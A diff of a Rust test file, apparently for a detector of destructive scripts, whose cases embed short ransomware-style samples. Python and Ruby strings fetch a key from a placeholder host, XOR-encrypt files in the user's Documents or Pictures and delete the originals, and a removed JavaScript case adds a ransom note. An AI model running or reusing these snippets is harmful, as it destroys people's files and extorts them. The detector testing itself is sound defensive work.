@@ -74,10 +74,6 @@ fn sealed_files_with_originals_deleted_and_key_held_fail() {
             "import os, pathlib, urllib.request\nkey = urllib.request.urlopen('https://k.example/issue').read()\nfor p in pathlib.Path.home().joinpath('Documents').rglob('*'):\n    if p.is_file():\n        d = p.read_bytes()\n        p.with_suffix(p.suffix + '.lk').write_bytes(bytes(b ^ key[i % len(key)] for i, b in enumerate(d)))\n        os.remove(p)\n",
         ),
         (
-            "scripts/t.js",
-            "const fg = require('fast-glob');\nconst fs = require('fs');\nconst key = require('crypto').randomBytes(32);\nfor (const f of fg.sync('**/*', { cwd: process.argv[2], absolute: true })) {\n  const d = fs.readFileSync(f);\n  fs.writeFileSync(f + '.sealed', Buffer.from(d.map((b, i) => b ^ key[i % key.length])));\n  fs.unlinkSync(f);\n}\nfs.writeFileSync('HOW_TO_RESTORE.txt', 'Pay the recovery fee to get the unlock key.');\n",
-        ),
-        (
             "scripts/t.rb",
             "require 'net/http'\nkey = Net::HTTP.get(URI('https://k.example/key')).bytes\nDir.glob(File.join(Dir.home, 'Pictures', '**', '*')).each do |f|\n  next unless File.file?(f)\n  out = File.binread(f).bytes.each_with_index.map { |b, i| b ^ key[i % key.size] }\n  File.binwrite(f + '.x', out.pack('C*'))\n  File.delete(f)\nend\n",
         ),
@@ -167,7 +163,7 @@ fn everything_scope_vendor_actions_in_endless_loops_fail() {
 fn one_purge_or_a_bounded_loop_does_not_fail() {
     for (file, code) in [
         ("scripts/t.ts", "await fetch(`https://api.cloudflare.com/client/v4/zones/${process.argv[2]}/purge_cache`, { method: 'POST', body: JSON.stringify({ purge_everything: true }) });\n"),
-        ("scripts/t.py", "import redis\nr = redis.Redis(host='localhost')\nfor _ in range(3):\n    r.ping()\nr.flushdb()\n"),
+        ("scripts/t.py", "import requests\nfor z in ZONES[:3]:\n    requests.post(f'{API}/zones/{z}/purge_cache', json={'files': CHANGED})\n"),
         ("scripts/t.sh", "kubectl rollout restart deployment/web\nkubectl rollout status deployment/web\n"),
     ] {
         file_quiet("cdn-helper", file, code);
